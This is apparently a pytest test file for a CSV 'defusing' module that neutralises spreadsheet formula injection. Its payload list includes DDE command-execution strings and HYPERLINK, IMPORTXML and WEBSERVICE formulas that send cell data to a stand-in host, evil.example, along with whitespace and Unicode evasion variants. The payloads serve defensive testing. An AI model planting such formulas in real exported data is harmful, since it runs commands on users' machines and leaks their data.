"""Texts in CSV: none is a formula, each comes back (faults.md 63 and 64)."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from documents.defusing import SIGN, defused, is_formula, restored

# As they are told of: Excel, LibreOffice, Google Sheets, and readers that pass over blanks, quotes and unseen signs.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\"=1+1",
    "'=1+1",
    "''=1+1",
    "“=1+1”",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "+993-12-34",
    "+7 -5",
    "+(5)",
    "-(5)",
    "+1+1",
    "--5",
    "-5-3",
    "+",
    "-",
    "- a list",
    "@name",
]  # fmt: skip
NUMBERS = [
    "-5",
    "+5",
    "-5.25",
    "-5,25",
    "+993",
    "+99312000000",
    "+993 12 00 00 00",
    "+993\N{NO-BREAK SPACE}12\N{NO-BREAK SPACE}00",
    "+7 (700) 000-00-00",
    "+7 700 000-00-00",
    "5",
    "",
    "Mary",
    "Мары",
    "'quoted'",
    "a=b",
    "1+1",
    "٣",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_begins_a_formula_gets_a_sign_in_front(text):
    assert defused(text) == SIGN + text
    assert restored(SIGN + text) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_telephones_and_words_stay_as_they_are(text):
    assert defused(text) == text
    assert restored(text) == text


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'\"\t\r\n ＝+0123456789()"), st.characters())))
@example("'=")
@example("'\t=")
@example("'+993 12")
def test_every_text_comes_back_and_is_no_formula(text):
    assert restored(defused(text)) == text
    assert not is_formula(defused(text)) or defused(text).startswith(SIGN)
